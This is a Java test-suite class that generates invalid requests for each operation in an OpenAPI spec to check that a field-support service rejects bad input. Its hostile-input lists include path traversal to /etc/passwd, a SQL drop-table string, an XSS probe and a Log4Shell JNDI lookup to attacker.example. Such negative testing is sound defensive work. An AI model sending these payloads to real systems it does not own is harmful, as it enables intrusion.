package org.fieldsupport.e2e.suites;

import java.util.ArrayList;
import java.util.Iterator;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.regex.Pattern;
import java.util.regex.PatternSyntaxException;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;

/**
 * The bad requests generated for one documented operation: a plausible request (every parameter and body field
 * filled from its schema), then one thing broken at a time — the JSON itself, its content type and size, each
 * field's type, enum, length, pattern, format and bounds, required fields missing or null, privileged fields that
 * no caller may set, and path and query parameters that are not what their schema says.
 */
final class BadInputCases {

    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;
    /** Fields that say who or what a record is, or where it stands: set by the service, never by a caller. */
    static final List<String> PRIVILEGED = List.of("id", "status", "technicianId", "ticketId", "createdAt",
            "version", "resolution", "deleted", "groups", "role");
    /** Text that a field with a pattern, an enum or a format must refuse. */
    static final List<String> HOSTILE = List.of("", " ", "../../../etc/passwd", "'; drop table ticket; --",
            "<script>alert(1)</script>", "${jndi:ldap://attacker.example/a}", "\u0000", "é".repeat(3));
    /** Path segments that are never a valid id: traversal, injection, overlong. */
    static final List<String> HOSTILE_PATH = List.of("..%2F..%2Fetc%2Fpasswd", "%27%20OR%201%3D1--",
            "%3Cscript%3E", "x".repeat(300), "not-a-uuid");

    record Case(String description, Map<String, String> path, Map<String, String> query, String contentType,
            String body) {
    }

    private BadInputCases() {
    }

    static List<Case> of(OpenApiOperations.Operation op) {
        Map<String, String> path = new LinkedHashMap<>();
        Map<String, String> query = new LinkedHashMap<>();
        List<JsonNode> pathParams = new ArrayList<>();
        List<JsonNode> queryParams = new ArrayList<>();
        for (JsonNode p : op.parameters()) {
            JsonNode schema = op.resolve(p.path("schema"));
            if ("path".equals(p.path("in").asText())) {
                path.put(p.get("name").asText(), pathValue(schema));
                pathParams.add(p);
            } else if ("query".equals(p.path("in").asText())) {
                queryParams.add(p);
            }
        }
        List<Case> cases = new ArrayList<>();
        JsonNode bodySchema = op.bodySchema() == null ? null : op.resolve(op.bodySchema());
        String validBody = bodySchema == null ? null : valid(op, bodySchema).toString();

        for (JsonNode p : pathParams) {
            JsonNode schema = op.resolve(p.path("schema"));
            for (String hostile : HOSTILE_PATH) {
                if (accepts(schema, decoded(hostile)) && !"GET".equals(op.method())) {
                    continue;
                }
                Map<String, String> broken = new LinkedHashMap<>(path);
                broken.put(p.get("name").asText(), hostile);
                cases.add(new Case("path " + p.get("name").asText() + "=" + abbreviate(hostile), broken, query,
                        validBody == null ? null : "application/json", validBody));
            }
        }
        for (JsonNode p : queryParams) {
            JsonNode schema = op.resolve(p.path("schema"));
            // An empty query parameter is an absent filter, not a bad one.
            for (String bad : invalidTexts(schema).stream().filter(v -> !v.isEmpty()).toList()) {
                Map<String, String> broken = new LinkedHashMap<>(query);
                broken.put(p.get("name").asText(), bad);
                cases.add(new Case("query " + p.get("name").asText() + "=" + abbreviate(bad), path, broken,
                        validBody == null ? null : "application/json", validBody));
            }
        }
        if (bodySchema == null) {
            return cases;
        }
        for (String malformed : List.of("{\"a\":", "not json", "", "[]", "\"text\"", "123", "null",
                "{\"a\": 1} trailing", "[".repeat(5000) + "]".repeat(5000))) {
            cases.add(new Case("malformed JSON " + abbreviate(malformed), path, query, "application/json",
                    malformed));
        }
        for (String type : List.of("text/plain", "application/xml", "application/x-www-form-urlencoded")) {
            if (!op.bodyTypes().contains(type)) {
                cases.add(new Case("content type " + type, path, query, type, validBody));
            }
        }
        ObjectNode huge = (ObjectNode) valid(op, bodySchema);
        huge.put("padding", "x".repeat(200_000));
        cases.add(new Case("body of 200 kB", path, query, "application/json", huge.toString()));
        String firstKey = bodySchema.path("properties").fieldNames().hasNext()
                ? bodySchema.path("properties").fieldNames().next() : null;
        if (firstKey != null) {
            String duplicated = validBody.replaceFirst("\\{", "{\"" + firstKey + "\": null, ");
            cases.add(new Case("duplicate key " + firstKey, path, query, "application/json", duplicated));
        }

        Iterator<Map.Entry<String, JsonNode>> properties = bodySchema.path("properties").fields();
        List<String> required = new ArrayList<>();
        bodySchema.path("required").forEach(r -> required.add(r.asText()));
        while (properties.hasNext()) {
            Map.Entry<String, JsonNode> property = properties.next();
            String name = property.getKey();
            JsonNode schema = op.resolve(property.getValue());
            for (JsonNode wrong : wrongTypes(schema)) {
                cases.add(field(op, bodySchema, path, query, name, wrong, "wrong type " + wrong.getNodeType()));
            }
            for (String bad : invalidTexts(schema)) {
                cases.add(field(op, bodySchema, path, query, name, NODES.textNode(bad),
                        "invalid " + abbreviate(bad)));
            }
            if (schema.has("maxLength") && schema.get("maxLength").asInt() < 60_000) {
                cases.add(field(op, bodySchema, path, query, name,
                        NODES.textNode("x".repeat(schema.get("maxLength").asInt() + 1)), "too long"));
            }
            if (schema.has("maxItems")) {
                ArrayNode many = NODES.arrayNode();
                for (int i = 0; i <= schema.get("maxItems").asInt(); i++) {
                    many.add(valid(op, op.resolve(schema.path("items"))));
                }
                cases.add(field(op, bodySchema, path, query, name, many, "too many items"));
            }
            if (schema.has("minimum")) {
                cases.add(field(op, bodySchema, path, query, name,
                        NODES.numberNode(schema.get("minimum").asDouble() - 1), "below minimum"));
            }
            if (schema.has("maximum")) {
                cases.add(field(op, bodySchema, path, query, name,
                        NODES.numberNode(schema.get("maximum").asDouble() + 1), "above maximum"));
            }
            if (required.contains(name)) {
                ObjectNode missing = (ObjectNode) valid(op, bodySchema);
                missing.remove(name);
                cases.add(new Case("missing " + name, path, query, "application/json", missing.toString()));
                cases.add(field(op, bodySchema, path, query, name, NODES.nullNode(), "null"));
            }
        }
        for (String privileged : PRIVILEGED) {
            if (!bodySchema.path("properties").has(privileged)) {
                cases.add(field(op, bodySchema, path, query, privileged, NODES.textNode(
                        privileged.endsWith("Id") || privileged.equals("id") ? UUID.randomUUID().toString()
                                : "RESOLVED"), "privileged field " + privileged));
            }
        }
        return cases;
    }

    private static Case field(OpenApiOperations.Operation op, JsonNode bodySchema, Map<String, String> path,
            Map<String, String> query, String name, JsonNode value, String what) {
        ObjectNode body = (ObjectNode) valid(op, bodySchema);
        body.set(name, value);
        return new Case(name + ": " + what, path, query, "application/json", body.toString());
    }

    /** A plausible value for a schema: its example, its first enum value, or one that fits its type and format. */
    static JsonNode valid(OpenApiOperations.Operation op, JsonNode schema) {
        schema = op.resolve(schema);
        if (schema.has("examples") && schema.get("examples").size() > 0) {
            return schema.get("examples").get(0).deepCopy();
        }
        if (schema.has("enum")) {
            return schema.get("enum").get(0).deepCopy();
        }
        String type = schema.path("type").asText("object");
        return switch (type) {
            case "object" -> {
                ObjectNode object = NODES.objectNode();
                List<String> required = new ArrayList<>();
                schema.path("required").forEach(r -> required.add(r.asText()));
                schema.path("properties").fields().forEachRemaining(p -> {
                    if (required.contains(p.getKey())) {
                        object.set(p.getKey(), valid(op, p.getValue()));
                    }
                });
                yield object;
            }
            case "array" -> NODES.arrayNode().add(valid(op, schema.path("items")));
            case "integer" -> NODES.numberNode(schema.has("minimum") ? schema.get("minimum").asLong() : 1);
            case "number" -> NODES.numberNode(schema.has("minimum") ? schema.get("minimum").asDouble() : 1.5);
            case "boolean" -> NODES.booleanNode(true);
            default -> NODES.textNode(switch (schema.path("format").asText()) {
                case "uuid" -> UUID.randomUUID().toString();
                case "date-time" -> "2025-10-06T08:00:00Z";
                case "date" -> "2025-10-06";
                default -> "A1";
            });
        };
    }

    private static String pathValue(JsonNode schema) {
        return switch (schema.path("format").asText()) {
            case "uuid" -> UUID.randomUUID().toString();
            case "date" -> "2025-10-06";
            case "date-time" -> "2025-10-06T08:00:00Z";
            default -> "SUITE1";
        };
    }

    private static List<JsonNode> wrongTypes(JsonNode schema) {
        String type = schema.path("type").asText(schema.has("enum") ? "string" : "object");
        return switch (type) {
            case "string" -> List.of(NODES.numberNode(12345), NODES.objectNode(), NODES.arrayNode(),
                    NODES.booleanNode(true));
            case "integer", "number" -> List.of(NODES.textNode("abc"), NODES.booleanNode(true), NODES.objectNode());
            case "boolean" -> List.of(NODES.textNode("maybe"), NODES.numberNode(2));
            case "array" -> List.of(NODES.textNode("x"), NODES.objectNode());
            default -> List.of(NODES.textNode("x"), NODES.arrayNode());
        };
    }

    /** Texts the schema must refuse: outside its enum, not in its format, not matching its pattern. */
    private static List<String> invalidTexts(JsonNode schema) {
        List<String> bad = new ArrayList<>();
        if (schema.has("enum")) {
            bad.add("NOT_A_VALUE");
        }
        switch (schema.path("format").asText()) {
            case "uuid" -> bad.addAll(List.of("not-a-uuid", "3f0c2a4e-9a1b-4c57-8f0e"));
            case "date-time" -> bad.addAll(List.of("2025-13-45T99:00:00Z", "yesterday"));
            case "date" -> bad.addAll(List.of("2025-02-30", "31/12/2025"));
            default -> {
            }
        }
        if (schema.has("pattern") && !schema.has("enum")) {
            for (String hostile : HOSTILE) {
                if (!accepts(schema, hostile)) {
                    bad.add(hostile);
                }
            }
        }
        return bad;
    }

    /** Whether the value fits the schema's pattern (anywhere in it, as JSON Schema's pattern means). */
    static boolean accepts(JsonNode schema, String value) {
        if (!schema.has("pattern")) {
            return !"uuid".equals(schema.path("format").asText());
        }
        try {
            return Pattern.compile(schema.get("pattern").asText()).matcher(value).find();
        } catch (PatternSyntaxException e) {
            return true;
        }
    }

    private static String decoded(String segment) {
        return java.net.URLDecoder.decode(segment, java.nio.charset.StandardCharsets.UTF_8);
    }

    static String abbreviate(String text) {
        String shown = text.length() > 24 ? text.substring(0, 21) + "..." : text;
        return "'" + shown.replace("\u0000", "\\0") + "'";
    }
}
